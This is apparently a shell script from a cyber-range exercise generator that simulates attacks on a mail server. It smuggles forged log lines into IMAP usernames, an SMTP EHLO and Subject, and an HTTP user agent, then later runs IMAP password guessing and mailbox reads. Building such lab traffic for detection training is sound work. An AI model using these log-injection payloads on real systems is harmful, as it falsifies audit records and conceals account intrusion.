# Names, subjects, user agents and HELOs that are log lines; then a quiet read.

forged_lines_calendar()
{
	cat <<-END
	$(at 1 03:03) forged_lines_write
	$(at 1 21:30) forged_lines_read
	END
}

forged_lines_write()
{
	from=198.18.251.210
	victim=$(person office 4)
	for name in "$victim@$DOMAIN>, method=PLAIN, rip=192.0.2.80, lip=192.0.2.10, mpid=1, TLS, session=<forged1>" \
	    "x>, rip=192.0.2.80, session=<a>: Login: user=<$victim@$DOMAIN"; do
		note_try $from "$victim"
		ask $from -u "$name:x" imaps://192.0.2.10/ >/dev/null
	done
	printf '?220\nEHLO x[192.0.2.80]: sasl_username=%s\n?250 \nMAIL FROM:<a@b.example>\n?250\nRCPT TO:<%s@%s>\n?250\nDATA\n?354\nSubject: x, uid=1, box=INBOX, size=99999999 Logged out in=1 out=99999999\nFrom: a@b.example\n\nx\n.\n?250\nQUIT\n?221\n' \
	    "$victim" "$victim" $DOMAIN | php /range/talk.php $from 192.0.2.10 25 >/dev/null
	printf 'x' >"$ACT/forged"
	inbox_add "$victim" "$ACT/forged"
	ask $from -A "x\" 200 1 \"-\" \"y\" 192.0.2.80 - - [01/Jan/2026:00:00:00 +0000] \"GET /?_task=mail&_action=show&_uid=1" https://192.0.2.10/ -o /dev/null
}

forged_lines_read()
{
	victim=$(person office 4)
	try_imap "$victim" 198.18.251.211 a b c d e f g h
	note_entry "$victim" guessing
	note_clue guessing "$victim"
	imap_bulk "$victim" 198.18.251.211 3 18
}
